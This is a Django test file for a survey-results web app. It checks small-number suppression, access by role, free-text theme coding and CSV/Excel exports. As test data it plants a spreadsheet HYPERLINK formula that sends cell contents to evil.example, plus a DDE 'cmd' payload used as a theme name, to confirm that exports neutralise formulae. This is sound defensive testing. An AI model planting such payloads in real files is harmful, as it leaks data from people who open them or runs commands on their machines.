"""Survey results through the web: the pages, free-text coding, the downloads,
who may see what, and small-number suppression everywhere a viewer looks."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from amhe.core.models import Organisation, Role
from amhe.surveys import equality
from amhe.surveys.models import Answer, Theme
from amhe.surveys.selectors import survey_url
from tests.factories import (
    MembershipFactory,
    ProjectFactory,
    QuestionFactory,
    SurveyFactory,
    SurveyResponseFactory,
    work_out_figures,
)

pytestmark = pytest.mark.django_db

INJECTION = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")'


def equality_question(survey, key, position, show_if=None, values=()):
    standard = equality.BY_KEY[key]
    return QuestionFactory(
        survey=survey,
        position=position,
        kind="single",
        text=str(standard.text),
        equality_key=key,
        options=standard.option_list(),
        show_if_question=show_if,
        show_if_values=list(values),
    )


def respond(survey, answers, *, channel="open", language="en-gb", state="submitted"):
    response = SurveyResponseFactory(survey=survey, channel=channel, language=language, state=state)
    Answer.objects.bulk_create(Answer(response=response, question=q, value=v) for q, v in answers.items())
    return response


class World:
    pass


@pytest.fixture
def world(project, member_of):
    """A survey with small groups everywhere: 3 Black respondents, an answer
    chosen by 3, 2 paper responses, 1 in Polish, a theme on 3 answers."""
    w = World()
    w.project = project
    w.lead = member_of(project, Role.LEAD)
    w.analyst = member_of(project, Role.ANALYST)
    w.viewer = member_of(project, Role.VIEWER)
    w.survey = SurveyFactory(project=project, include_equality=True, languages=["pl"])
    w.often = QuestionFactory(
        survey=w.survey,
        position=1,
        text="How often do you use crisis services?",
        options=[
            {"value": "often", "label": "Often"},
            {"value": "sometimes", "label": "Sometimes"},
            {"value": "never", "label": "Never"},
        ],
    )
    w.likert = QuestionFactory(
        survey=w.survey,
        position=2,
        kind="likert",
        text="Staff treated me with respect.",
        options=[
            {"value": str(i), "label": label}
            for i, label in enumerate(["Strongly disagree", "Disagree", "Neither", "Agree", "Strongly agree"], start=1)
        ],
    )
    w.text = QuestionFactory(survey=w.survey, position=3, kind="long_text", text="What would help?", options=[])
    w.group = equality_question(w.survey, "ethnic_group", 10)
    plan = (
        # (how many, ethnic group, often answer, likert, channel, language)
        (20, "WHITE", "often", "4", "open", "en-gb"),
        (10, "WHITE", "never", "4", "open", "en-gb"),
        (12, "ASIAN", "never", "2", "open", "en-gb"),
        (3, "BLACK", "sometimes", "5", "open", "en-gb"),
        (9, "MIXED", "never", "3", "open", "en-gb"),
        (2, "WHITE", "never", "4", "paper", "en-gb"),
        (1, "WHITE", "never", "4", "open", "pl"),
    )
    w.responses = []
    for n, group, often, likert, channel, language in plan:
        for _ in range(n):
            w.responses.append(
                respond(
                    w.survey,
                    {w.often: often, w.likert: likert, w.group: group, w.text: f"Answer from a {group} person"},
                    channel=channel,
                    language=language,
                )
            )
    respond(w.survey, {w.often: "often"}, state="in_progress")
    w.secret = w.responses[0]
    Answer.objects.filter(response=w.secret, question=w.text).update(value=INJECTION)
    transport = Theme.objects.create(project=project, name="Transport")
    waits = Theme.objects.create(project=project, name="=cmd|' /C calc'!A0")
    for response in w.responses[:3]:
        Answer.objects.get(response=response, question=w.text).themes.add(transport)
    for response in w.responses:
        Answer.objects.get(response=response, question=w.text).themes.add(waits)
    work_out_figures(w.survey)
    return w


def url(name, w, **extra):
    return survey_url(name, w.survey, **extra)


SMALL = re.compile(r"^[1-7]$")


def numeric_cells(html: str) -> list[str]:
    """The text of every numeric table cell and summary-list value on a page."""
    cells = re.findall(r'nhsuk-table__cell--numeric">(.*?)</td>', html, flags=re.S)
    cells += re.findall(r'nhsuk-summary-list__value">(.*?)</dd>', html, flags=re.S)
    return [re.sub(r"<[^>]+>", "", c).strip() for c in cells]


def assert_no_small_counts(values):
    """Every count shown is suppressed, 0, or at least 8 and a multiple of 5 (NHS rule)."""
    counts = [v.replace(",", "") for v in values if re.fullmatch(r"[\d,]+", v or "")]
    assert counts, "no counts found"
    for count in counts:
        number = int(count)
        assert number == 0 or (number >= 8 and number % 5 == 0), f"count {number} shown"


# --------------------------------------------------------------------------- pages


def test_viewer_sees_results_with_no_small_number_anywhere(client, world):
    client.force_login(world.viewer)
    response = client.get(url("survey-results", world))
    assert response.status_code == 200
    html = response.content.decode()
    assert "Results: " + world.survey.title in html
    assert_no_small_counts(numeric_cells(html))
    # Per question: Sometimes (3) hidden with a complementary cell; charts carry only shown figures.
    assert "Answers to question 1" in html
    assert "Suppressed" in html
    assert "Who answered: ethnic group" in html
    # Free text is never shown to a viewer; nor the coding link or record-level downloads.
    assert "Answer from a" not in html and "HYPERLINK" not in html
    assert url("survey-coding", world, question_id=world.text.pk) not in html
    assert url("survey-responses-csv", world) not in html
    # Theme counts are there, suppressed (Transport: 3).
    assert "Transport" in html


def test_commissioner_sees_a_question_by_ethnic_group(client, world):
    client.force_login(world.viewer)
    response = client.get(url("survey-question-results", world, question_id=world.often.pk))
    assert response.status_code == 200
    html = response.content.decode()
    assert '<option value="ethnicity_high" selected>Ethnic group</option>' in html
    assert "Question 1 by ethnic group" in html
    assert "People who chose “Often”, by ethnic group" in html
    assert_no_small_counts(numeric_cells(html))
    # White: 20 of 33 chose "Often", shown as 20 of 35 (57.1%): 60.6% would give the 33 away (ADR 0008).
    assert "57.1% (" in html and "60.6%" not in html
    assert "worked out from the rounded counts shown" in html
    # Black (3 people) suppressed.
    table = re.search(r'<caption[^>]*id="breakdown-caption".*?</table>', html, flags=re.S).group(0)
    black = re.search(r"Black, Black British.*?</tr>", table, flags=re.S).group(0)
    assert "Suppressed" in black and "%" not in black

    detailed = client.get(url("survey-question-results", world, question_id=world.often.pk), {"by": "ethnicity"})
    assert "Question 1 by ethnic group (detailed)" in detailed.content.decode()
    # Sex was not asked in this survey: not offered, and asking for it shows ethnic group.
    by_sex = client.get(url("survey-question-results", world, question_id=world.often.pk), {"by": "sex"})
    assert "Question 1 by ethnic group:" in by_sex.content.decode()
    assert 'value="sex"' not in by_sex.content.decode()
    chosen = client.get(
        url("survey-question-results", world, question_id=world.often.pk), {"by": "nonsense", "option": "never"}
    )
    assert "People who chose “Never”, by ethnic group" in chosen.content.decode()

    scale = client.get(url("survey-question-results", world, question_id=world.likert.pk))
    assert "Mean score by ethnic group" in scale.content.decode()


def test_question_page_without_equality_questions_says_so(client, project, member_of):
    viewer = member_of(project, Role.VIEWER)
    survey = SurveyFactory(project=project)
    q = QuestionFactory(survey=survey)
    respond(survey, {q: "yes"})
    work_out_figures(survey)
    client.force_login(viewer)
    kwargs = {"project_id": project.pk, "survey_id": survey.pk}
    html = client.get(
        reverse("surveys:survey-question-results", kwargs={"step": "identify", **kwargs, "question_id": q.pk})
    ).content
    assert b"did not ask the equality monitoring questions" in html
    html = client.get(reverse("surveys:survey-results", kwargs={"step": "identify", **kwargs})).content
    assert b"did not ask the equality monitoring questions" in html
    assert client.get(reverse("surveys:survey-themes", kwargs={"step": "identify", **kwargs})).status_code == 200


def test_themes_by_group_page_is_suppressed(client, world):
    client.force_login(world.viewer)
    response = client.get(url("survey-themes", world), {"by": "ethnicity_high"})
    assert response.status_code == 200
    html = response.content.decode()
    assert "People whose answers carry each theme, by ethnic group" in html
    assert_no_small_counts(numeric_cells(html))
    assert "Answer from a" not in html


def test_other_projects_survey_and_question_are_404(client, world):
    other = SurveyFactory(project=ProjectFactory())
    other_q = QuestionFactory(survey=other)
    client.force_login(world.lead)
    kwargs = {"project_id": world.project.pk, "survey_id": other.pk}
    for name in ("survey-results", "survey-themes", "survey-results-csv", "survey-responses-xlsx"):
        assert client.get(reverse(f"surveys:{name}", kwargs={"step": "identify", **kwargs})).status_code == 404
    assert client.get(url("survey-question-results", world, question_id=other_q.pk)).status_code == 404
    assert client.get(url("survey-coding", world, question_id=other_q.pk)).status_code == 404
    # An equality question has no page of its own (it is under "Who answered").
    assert client.get(url("survey-question-results", world, question_id=world.group.pk)).status_code == 404
    # Someone from another project sees nothing.
    outsider = ProjectFactory()
    client.force_login(MembershipFactory(project=outsider).user)
    assert client.get(url("survey-results", world)).status_code == 404


# --------------------------------------------------------------------------- coding


def test_viewer_cannot_open_coding_or_record_level_downloads(client, world):
    client.force_login(world.viewer)
    assert client.get(url("survey-coding", world, question_id=world.text.pk)).status_code == 403
    assert client.post(url("survey-coding", world, question_id=world.text.pk), {}).status_code == 403
    assert client.get(url("survey-responses-csv", world)).status_code == 403
    assert client.get(url("survey-responses-xlsx", world)).status_code == 403


def test_coding_lists_25_answers_a_page_and_saves_themes(client, world):
    client.force_login(world.analyst)
    coding = url("survey-coding", world, question_id=world.text.pk)
    page = client.get(coding)
    assert page.status_code == 200
    html = page.content.decode()
    assert html.count('class="nhsuk-card"') == 25
    assert "Answers 1 to 25 of 57" in html
    assert 'aria-label="Page 2"' in html
    assert "Transport" in html  # existing themes listed
    second = client.get(coding, {"page": 2}).content.decode()
    assert second.count('class="nhsuk-card"') == 25
    assert client.get(coding, {"page": 3}).content.decode().count('class="nhsuk-card"') == 7

    first = page.context["items"][0]["answer"]
    response = client.post(coding, {"save": str(first.pk), f"themes-{first.pk}": "Cost,  transport , cost"})
    assert response.status_code == 302 and response["Location"].endswith(f"#answer-{first.pk}")
    assert sorted(Answer.objects.get(pk=first.pk).themes.values_list("name", flat=True)) == ["Cost", "Transport"]
    assert Theme.objects.filter(project=world.project, name__iexact="transport").count() == 1

    items = page.context["items"][:2]
    data = {"save_all": "1", "answer": [str(i["answer"].pk) for i in items]}
    data.update({f"themes-{i['answer'].pk}": "Kindness" for i in items})
    assert client.post(coding, data).status_code == 302
    for item in items:
        assert list(Answer.objects.get(pk=item["answer"].pk).themes.values_list("name", flat=True)) == ["Kindness"]

    too_long = client.post(coding, {"save": str(first.pk), f"themes-{first.pk}": "x" * 101})
    assert too_long.status_code == 200
    assert "There is a problem" in too_long.content.decode()
    assert list(Answer.objects.get(pk=first.pk).themes.values_list("name", flat=True)) == ["Kindness"]


def test_coding_ignores_answers_from_elsewhere(client, world):
    client.force_login(world.lead)
    other = Answer.objects.filter(question=world.often).first()
    coding = url("survey-coding", world, question_id=world.text.pk)
    response = client.post(coding, {"save": str(other.pk), f"themes-{other.pk}": "Sneaky"})
    assert response.status_code == 302
    assert not other.themes.exists()
    # Only free-text questions are coded.
    assert client.get(url("survey-coding", world, question_id=world.often.pk)).status_code == 404


# --------------------------------------------------------------------------- downloads


def read_csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


COUNT_HEADERS = {"People", "Responses", "Count", "People asked", "People who answered"}


def count_values(rows: list[list]) -> list[str]:
    """The cells under any count header, in every section of a CSV or sheet."""
    values, header = [], None
    for row in rows:
        first = str(row[0]) if row else ""
        if any(str(c) in COUNT_HEADERS for c in row) and not first.isdigit() and first != "All":
            header = [str(c) for c in row]
            continue
        if header and len(row) == len(header):
            values += [str(v) for h, v in zip(header, row, strict=True) if h in COUNT_HEADERS and v not in ("", None)]
    return values


def test_aggregated_csv_and_xlsx_have_no_small_numbers(client, world):
    client.force_login(world.viewer)
    response = client.get(url("survey-results-csv", world))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = read_csv(response)
    assert rows[0][0].startswith("Survey results with small-number suppression")
    values = count_values(rows)
    assert "*" in values
    assert_no_small_counts(values)
    flat = [c for row in rows for c in row]
    assert "Answer from a WHITE person" not in flat
    assert "'=cmd|' /C calc'!A0" in " ".join(flat)  # the theme name, neutralised
    assert not any(c.startswith(("=", "+", "@")) for c in flat)

    response = client.get(url("survey-results-xlsx", world))
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Responses", "Questions", "Who answered", "Answers by group", "Themes"]
    for sheet in workbook.worksheets:
        rows = [list(r) for r in sheet.iter_rows(values_only=True)]
        assert_no_small_counts_or_none(count_values(rows))
        if sheet.title in ("Responses", "Questions", "Who answered"):
            assert "*" in count_values(rows) and any(v.isdigit() for v in count_values(rows)), sheet.title
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "@"))


def assert_no_small_counts_or_none(values):
    if values:
        assert_no_small_counts(values)


def test_record_level_downloads_are_marked_and_neutralise_formulae(client, world):
    client.force_login(world.analyst)
    response = client.get(url("survey-responses-csv", world))
    assert response.status_code == 200
    rows = read_csv(response)
    assert rows[0] == ["Record-level answers: not for publication"]
    header = rows[1]
    assert header[:4] == ["Response", "Submitted on", "Channel", "Language"]
    assert "Q1. How often do you use crisis services?" in header
    assert len(rows) == 2 + 57  # in-progress responses are not included
    flat = [c for row in rows for c in row]
    assert "'" + INJECTION in flat
    assert INJECTION not in flat
    assert "Black, Black British, Black Welsh, Caribbean or African" in flat  # labels, not codes

    response = client.get(url("survey-responses-xlsx", world))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet["A1"].value == "Record-level answers: not for publication"
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.value == "'" + INJECTION and c.data_type == "s" for c in cells)


def test_lead_sees_coding_link_and_record_level_downloads(client, world):
    client.force_login(world.lead)
    html = client.get(url("survey-results", world)).content.decode()
    assert url("survey-coding", world, question_id=world.text.pk) in html
    assert url("survey-responses-csv", world) in html
    assert "Record-level answers: not for publication" in html
    assert "Answer from a" not in html  # raw text only on the coding page


def test_organisation_rule_is_used(client, world):
    Organisation.objects.filter(pk=world.project.organisation_id).update(suppression_rule="nhs_lt10")
    work_out_figures(world.survey)
    client.force_login(world.viewer)
    html = client.get(url("survey-results", world)).content.decode()
    assert "counts from 1 to 9 are not shown" in html
    counts = [int(v) for v in numeric_cells(html) if re.fullmatch(r"\d+", v)]
    assert 57 in counts  # not rounded under this rule
    assert not [c for c in counts if 1 <= c <= 9]


def test_a_survey_with_no_responses_yet(client, project, member_of):
    lead = member_of(project, Role.LEAD)
    survey = SurveyFactory(project=project, include_equality=True)
    questions = [
        QuestionFactory(
            survey=survey, kind=kind, **({"options": []} if kind in ("rating", "number", "date", "text") else {})
        )
        for kind in ("single", "multiple", "likert", "rating", "number", "date", "text")
    ]
    equality_question(survey, "ethnic_group", 20)
    work_out_figures(survey)
    client.force_login(lead)
    kwargs = {"project_id": project.pk, "survey_id": survey.pk}
    page = client.get(reverse("surveys:survey-results", kwargs={"step": "identify", **kwargs}))
    assert page.status_code == 200
    assert "No one has answered this question yet." in page.content.decode()
    for q in questions:
        response = client.get(
            reverse("surveys:survey-question-results", kwargs={"step": "identify", **kwargs, "question_id": q.pk})
        )
        assert response.status_code == 200, q.kind
    assert (
        client.get(
            reverse("surveys:survey-coding", kwargs={"step": "identify", **kwargs, "question_id": questions[-1].pk})
        ).status_code
        == 200
    )
    assert client.get(reverse("surveys:survey-themes", kwargs={"step": "identify", **kwargs})).status_code == 200
    for name in ("survey-results-csv", "survey-results-xlsx", "survey-responses-csv", "survey-responses-xlsx"):
        assert client.get(reverse(f"surveys:{name}", kwargs={"step": "identify", **kwargs})).status_code == 200, name
